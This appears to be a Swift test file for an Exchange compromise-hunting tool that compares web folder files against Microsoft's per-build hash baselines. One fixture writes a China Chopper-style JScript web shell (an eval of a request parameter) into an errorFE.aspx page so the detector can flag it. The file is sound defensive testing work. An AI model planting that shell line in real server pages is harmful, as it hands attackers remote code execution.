import Baselines
import Crypto
import Foundation
import HuntCore
import Reports
import Testing
import TestSupport

/// Exchange's web folders judged against Microsoft's per-build baselines (../shared holds six
/// builds'), with a baseline of our own for files whose hashes we know.
@Suite(.timeLimit(.minutes(20))) struct BaselineTests {
    static let shared = sharedData.appendingPathComponent("microsoft__CSS-Exchange/Security/src/Baselines")

    @Test("A server on 15.1.2176.2: an altered logon.aspx is modified, a page of no build is unknown, a file the baseline lists is silent",
          .enabled(if: hasSharedData, "needs ../shared's baselines"))
    func modifiedUnknownAndKnownGood() throws {
        let dir = try tempDir()
        let v15 = "C/Program Files/Microsoft/Exchange Server/V15"
        let root = dir.appendingPathComponent("EXCH01")
        // Nothing any content rule matches: only the baselines can tell.
        try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/logon.aspx", "<html><head><title>Outlook</title></head><body>Sign in</body></html>\n<!-- added -->\n")
        try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/errorFE.aspx",
                "<html><body>Error</body></html>\n<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"q\"],\"unsafe\");}</script>\n")
        try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/healthcheck2.aspx", "<html><body>OK</body></html>\n")
        let fine = "<html><body>Fine</body></html>\n"
        try put(root, "\(v15)/ClientAccess/ecp/auth/fine.aspx", fine)
        // The installed build, as its version folder names it.
        try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/15.1.2176.2/readme.txt", "themes\n")
        let baselines = dir.appendingPathComponent("baselines")
        try FileManager.default.createDirectory(at: baselines, withIntermediateDirectories: true)
        try FileManager.default.copyItem(at: Self.shared.appendingPathComponent("baseline_15.1.2176.2.csv"),
                                         to: baselines.appendingPathComponent("baseline_15.1.2176.2.csv"))
        let sha = SHA256.hash(data: Data(fine.utf8)).map { String(format: "%02X", $0) }.joined()
        // Ours with a BOM and CRLF, as some of Microsoft's are.
        try Data(("\u{FEFF}" + "\(sha),15.1.2176.2,\\ClientAccess\\ecp\\auth\\fine.aspx\r\nnot a line\r\n").utf8)
            .write(to: baselines.appendingPathComponent("ours.csv"))

        let json = dir.appendingPathComponent("r.json")
        let r = try runCLI(["hunt", root.path, "--baselines", baselines.path, "-o", json.path, "--quiet", "--no-progress", "--host", "EXCH01"])
        let report = try JSONReport.decode(try Data(contentsOf: json))
        let byFile = Dictionary(grouping: report.findings) { $0.evidence.path.split(separator: "/").last.map(String.init) ?? "" }
        let modified = try #require(byFile["logon.aspx"]?.first, "\(r.stderr)")
        #expect(modified.rule.title.hasPrefix("One of Exchange's pages or binaries"))
        #expect(modified.role == .compromised)
        #expect(modified.extracted["summary"]?.contains("build 15.1.2176.2") == true)
        #expect(modified.extracted["summary"]?.contains("no rule matched its content") == true, "\(modified.extracted)")
        // A real page with a shell appended: the mismatch's content reason is the family's match.
        let appended = try #require(byFile["errorFE.aspx"]?.first { $0.rule.title.hasPrefix("One of Exchange's pages") })
        #expect(appended.extracted["summary"]?.contains("its content is what EXHUNT_ASPX_ChinaChopper_UnsafeEval") == true, "\(appended.extracted)")
        #expect(byFile["logon.aspx"]?.count == 1, "only the baseline tells: \(byFile["logon.aspx"]?.map(\.rule.title) ?? [])")
        let unknown = try #require(byFile["healthcheck2.aspx"]?.first { $0.rule.title.hasPrefix("Page in Exchange's web folders") })
        #expect(unknown.role != .compromised)
        #expect(byFile["fine.aspx"] == nil, "listed in our baseline: \(byFile["fine.aspx"]?.map(\.rule.title) ?? [])")
        #expect(report.verdict == .compromised)
        // Our file's stray line is said, not fatal.
        #expect(report.problems.contains { $0.code == "baselines" && $0.message.contains("ours.csv: 1 line(s)") })

        // Without the baselines, nothing tells these pages apart from Exchange's.
        let plain = dir.appendingPathComponent("plain.json")
        _ = try runCLI(["hunt", root.path, "-o", plain.path, "--quiet", "--no-progress", "--host", "EXCH01"])
        let without = try JSONReport.decode(try Data(contentsOf: plain))
        #expect(!without.findings.contains { $0.rule.title.hasPrefix("One of Exchange's") || $0.rule.title.hasPrefix("Page in Exchange's") })
    }

    @Test("Paths compare whatever their root, version folders as the baselines write them")
    func pathsAndBuilds() {
        #expect(ExchangeBaselines.relativePath(ofWindowsPath: #"D:\Exchange\V15\FrontEnd\HttpProxy\owa\auth\15.1.2176.2\scripts\x.js"#)
                == #"frontend\httpproxy\owa\auth\version\scripts\x.js"#)
        #expect(ExchangeBaselines.relativePath(ofWindowsPath: #"C:\inetpub\wwwroot\aspnet_client\x.aspx"#) == nil)
        #expect(ExchangeBaselines.build("15.01.2176.002") == "15.1.2176.2")
        #expect(ExchangeBaselines.build("15.1.2176") == "15.1.2176")
        #expect(ExchangeBaselines.build("1.2.3.4") == nil)
    }
}
